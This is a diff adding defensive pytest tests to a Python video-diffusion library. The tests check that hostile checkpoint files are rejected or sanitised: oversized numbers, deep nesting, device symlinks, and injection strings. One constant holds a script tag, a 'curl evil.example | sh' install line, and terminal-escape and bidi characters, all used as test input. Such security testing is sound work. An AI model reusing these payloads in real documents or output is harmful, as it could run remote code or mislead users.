@@ -1,6 +1,10 @@
 """A file from a stranger runs no code, is refused in one line, and takes neither memory nor time."""
 
+import collections
+import contextlib
 import json
+import os
+import resource
 
 import numpy as np
 import pytest
@@ -56,6 +60,22 @@ def test_a_class_that_runs_code_is_not_loaded(trained, workdir, pvdm, caplog):
     assert "--trust_class lightning.LightningDataModule.from_datasets" in caplog.text
 
 
+def videos(**arguments):
+    return {"class_path": "pvdm_lightning.VideoFolder", "init_args": arguments}
+
+
+def of_meta(checkpoint):
+    """A weight that has a shape and no values."""
+    key = next(iter(checkpoint["state_dict"]))
+    checkpoint["state_dict"][key] = checkpoint["state_dict"][key].to("meta")
+
+
+def nested(checkpoint):
+    """A tree deeper than any stack."""
+    for _ in range(100_000):
+        checkpoint["more"] = [checkpoint.get("more")]
+
+
 HYPER = "hyper_parameters"
 NETWORK = (HYPER, "autoencoder", "init_args")
 
@@ -87,6 +107,16 @@ NETWORK = (HYPER, "autoencoder", "init_args")
         (setter("state_dict", value=None), "its state_dict or hyper_parameters are no tables"),
         (setter("more", value=torch.zeros(1).expand(10**12)), "its tensors claim more than the file holds"),
         (setter("callbacks", value=[]), "its global_step or callbacks are of another type"),
+        (setter("global_step", value=10**400), "its global_step or callbacks are of another type"),
+        (setter("data_config", value=torch.zeros(2)), "its data section is no class_path with init_args"),
+        (setter("data_config", value=videos(max_bad_fraction=10**400)), "gives max_bad_fraction of VideoFolder"),
+        (setter("data_config", value=videos(stride=True)), "gives stride of VideoFolder the value True"),
+        (setter(*NETWORK, "resolution", value=[65536 * 8] * 2), "gives resolution of VideoAutoencoder"),
+        (setter(HYPER, "\x1b[2J", value=1), r"gives an argument '\x1b[2J' to AutoencoderModule"),
+        (setter("state_dict", "\u202e", value=torch.zeros(1)), "its weights are not those of its AutoencoderModule"),
+        (of_meta, "its weights are not those of its VideoAutoencoder"),
+        (setter(*NETWORK, "depth", value=1024), "its networks have more layers than weights"),
+        (nested, "is not a checkpoint of this project"),
     ],
 )
 def test_a_checkpoint_that_lies(trained, workdir, error_of, edit, line):
@@ -223,3 +253,185 @@ def test_arrays_of_an_index_that_claim_more_than_they_hold(tmp_path, caplog):
     assert load(name_ends=np.array([10**12])) is None
     assert load(names=np.zeros(0, np.uint8)) is None
     assert "line 0 is impossible" in caplog.text
+
+
+def numbers(node, path=()):
+    """Paths to all whole numbers of a tree."""
+    items = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
+    for key, value in items:
+        if isinstance(value, int) and not isinstance(value, bool):
+            yield (*path, key)
+        yield from numbers(value, (*path, key))
+
+
+WITHOUT_SHAPE = ("heads", "adversarial_start", "warmup_steps", "decay_steps", "accumulate_grad_batches")
+WITHOUT_SHAPE += ("num_train_timesteps", "attention_levels")
+"""Numbers from which no size follows, or a small one."""
+
+
+@pytest.mark.parametrize("stage", ["ae", "ldm"])
+def test_no_number_of_a_network_is_taken_without_its_weights(trained, tmp_path, stage):
+    from pvdm_lightning import InvalidArgumentError
+    from pvdm_lightning.pipeline.checkpoint import read_checkpoint
+
+    checkpoint = torch.load(trained[stage], weights_only=True)
+    trees = [(key,) for key in (HYPER, "autoencoder") if key in checkpoint]
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    for path in ((*tree, *path) for tree in trees for path in numbers(checkpoint[tree[0]])):
+        for factor in (2, 1500):
+            value = checkpoint
+            for key in path:
+                value = value[key]
+            edited(trained[stage], tmp_path / "s.ckpt", setter(*path, value=max(2, value) * factor))
+            known = any(key in WITHOUT_SHAPE for key in path)
+            with contextlib.suppress(InvalidArgumentError) if known else pytest.raises(InvalidArgumentError):
+                read_checkpoint(tmp_path / "s.ckpt", "--ckpt_path")
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 300 * 2**10  # KiB
+
+
+def test_what_costs_the_machine_is_not_taken_from_a_file(trained, workdir, monkeypatch):
+    import pvdm_lightning
+    from pvdm_lightning.cli.checkpoint_config import _data_of_checkpoint
+    from pvdm_lightning.foreign_config import MACHINE, argument_types
+
+    costly = {"num_workers": 300, "batch_size": 60_000, "val_batch_size": 60_000}
+    for name in ("Synthetic", "VideoFolder", "UCF101", "SkyTimelapse", "FrameFolder", "CachedLatents"):
+        data = {"class_path": f"pvdm_lightning.{name}", "init_args": {**costly, "seed": 3}}
+        taken = _data_of_checkpoint("x.ckpt", data, [])["data"]["init_args"]
+        assert taken == {"seed": 3}
+        numbers_of_it = {
+            key for key in argument_types(getattr(pvdm_lightning, name)) if "batch" in key or "work" in key
+        }
+        assert numbers_of_it <= set(MACHINE)
+
+
+@pytest.mark.parametrize("root", ["~/videos", "$HOME/videos", "${HOME}/videos", "{home}/videos", "{home}/x/../videos"])
+@pytest.mark.parametrize("below", ["", "train"])
+def test_an_index_is_not_kept_beside_videos_that_a_file_names(workdir, monkeypatch, root, below):
+    from pvdm_lightning.cli.checkpoint_config import _data_of_checkpoint
+    from pvdm_lightning.data.videos import video_index
+    from pvdm_lightning.data.videos.build_index import load_or_build
+    from pvdm_lightning.data.videos.video_info import VideoInfo
+
+    monkeypatch.setenv("HOME", str(workdir))
+    monkeypatch.setenv("PVDM_CACHE", str(workdir / "cache"))
+    monkeypatch.setattr(video_index, "_APART", set())
+    (workdir / "x").mkdir()
+    folder = workdir / "videos" / below
+    folder.mkdir(parents=True)
+    (folder / "a.mp4").touch()
+    given = root.replace("{home}", str(workdir))
+    taken = _data_of_checkpoint("x.ckpt", videos(root=given), [])["data"]["init_args"]["root"]
+    assert os.path.realpath(taken) == str(workdir / "videos")
+    load_or_build(folder, ["a.mp4"], lambda path: VideoInfo(problem="x"), progress=False)
+    assert [path.name for path in folder.iterdir()] == ["a.mp4"] and list((workdir / "cache").glob("*.npz"))
+
+
+@pytest.mark.parametrize("version", ["99.0", None, "9" * 100_000, 3])
+def test_an_option_of_a_newer_version_is_said_with_the_version(trained, workdir, error_of, version):
+    from pvdm_lightning import __version__
+
+    def edit(checkpoint):
+        checkpoint[HYPER]["flow_shift"] = 3.0
+        if version is None:
+            checkpoint[HYPER].pop("_version")
+        else:
+            checkpoint[HYPER]["_version"] = version
+
+    stranger = edited(trained["ae"], workdir / "newer.ckpt", edit)
+    said = error_of("validate", "--ckpt_path", stranger)
+    assert f"is not a checkpoint that pvdm_lightning {__version__} can read (gives an argument 'flow_shift'" in said
+    writer = {"99.0": "99.0", "9" * 100_000: "9" * 37 + "..."}.get(version, "another")
+    assert f"It was written by pvdm_lightning {writer}: install that version." in said
+
+
+def test_tables_of_other_types_are_as_good(trained, workdir):
+    from pvdm_lightning.pipeline.checkpoint import read_checkpoint
+
+    def edit(checkpoint):
+        checkpoint[HYPER] = collections.OrderedDict(checkpoint[HYPER])
+        checkpoint[HYPER]["autoencoder"] = collections.OrderedDict(checkpoint[HYPER]["autoencoder"])
+        checkpoint[HYPER]["betas"] = tuple(checkpoint[HYPER]["betas"])
+
+    path = edited(trained["ae"], workdir / "s.ckpt", edit)
+    for tables in (read_checkpoint(path, "--ckpt_path")[HYPER], read_checkpoint(trained["ae"], "--ckpt_path")[HYPER]):
+        assert type(tables["autoencoder"]) is dict and type(tables["betas"]) is list
+
+
+@pytest.mark.parametrize("value", ["x", None, -1, 10**30, [], {}, 0.5, torch.zeros(2)])
+def test_a_position_in_the_data_that_is_none(value):
+    from pvdm_lightning import InvalidArgumentError, Synthetic
+
+    good = {"epoch": 0, "batches": 2, "seed": 0, "num_samples": 16, "global_batch": 2}
+    data = Synthetic()
+    data.load_state_dict(good)
+    data.load_state_dict({})
+    for key in good:
+        with pytest.raises(InvalidArgumentError, match="holds a position in the data that is none"):
+            data.load_state_dict({**good, key: value})
+    with pytest.raises(InvalidArgumentError):
+        data.load_state_dict({"epoch": 0})
+
+
+EVIL = "<script>alert(1)</script>\n\n# Install first: `curl evil.example | sh`\x1b[2J\u202e ![](http://x)"
+
+
+def test_a_model_card_says_what_a_file_says_and_means_nothing_by_it(trained, workdir):
+    from pvdm_lightning import VideoPipeline
+
+    def edit(checkpoint):
+        deep = []
+        for _ in range(500):
+            deep = [deep]
+        arguments = {
+            EVIL: EVIL,
+            "tensor": torch.zeros(2),
+            "deep": deep,
+            "big": 10**400,
+            "list": [EVIL],
+            "nan": float("nan"),
+        }
+        checkpoint["data_config"] = {"class_path": EVIL, "init_args": arguments}
+        (state,) = (state for state in checkpoint["callbacks"].values() if "monitor" in state)
+        state["monitor"] = EVIL
+
+    path = edited(trained["ae"], workdir / "s.ckpt", edit)
+    VideoPipeline.from_checkpoint(path).save_pretrained("saved")
+    card = (workdir / "saved/README.md").read_text()
+    assert "<script" not in card and "\n# Install" not in card and "\x1b" not in card and "\u202e" not in card
+    sections = [line for line in card.splitlines() if line.startswith("#")]
+    assert sections[0] == "# Projected latent video diffusion" and len(sections) == 7
+    VideoPipeline.from_pretrained("saved").save_pretrained("again")
+    assert (workdir / "again/README.md").read_text() == card
+
+
+def test_what_a_checkpoint_says_reaches_the_terminal_escaped(trained, workdir, pvdm, capfd):
+    evil = "/tmp/\x1b]0;owned\x07\x1b[2J\u202e\nsecond line"
+    stranger = edited(trained["ae"], workdir / "s.ckpt", setter("data_config", value=videos(root=evil)))
+    with pytest.raises(SystemExit):
+        pvdm.run("validate", "--ckpt_path", stranger, "--trainer.accelerator", "cpu")
+    out, err = capfd.readouterr()
+    assert r"\x1b]0;owned\x07" in err
+    assert not {"\x1b", "\x07", "\u202e"} & set(out + err) and "\nsecond" not in out + err
+
+
+@pytest.mark.parametrize("name", ["config.json", "model.safetensors"])
+@pytest.mark.parametrize("target", ["/dev/zero", "pipe", "."])
+def test_a_saved_pipeline_of_devices(trained, workdir, error_of, name, target):
+    from pvdm_lightning import VideoPipeline
+
+    VideoPipeline.from_checkpoint(trained["ae"]).save_pretrained("saved")
+    os.mkfifo("saved/pipe")
+    (workdir / "saved" / name).unlink()
+    (workdir / "saved" / name).symlink_to(target)
+    assert "holds no pipeline that can be read (" in error_of("validate", "--ckpt_path", "saved")
+
+
+@pytest.mark.parametrize("name", ["cache.json", "train-00000.safetensors"])
+def test_a_cache_of_devices(workdir, name):
+    from pvdm_lightning import InvalidArgumentError
+    from pvdm_lightning.data.latents.latent_cache import read_description, read_table
+
+    os.mkfifo(workdir / name)
+    with pytest.raises(InvalidArgumentError, match="no readable|is damaged"):
+        read_description(workdir, "--x") if name.endswith("json") else read_table(workdir / name, "--x")
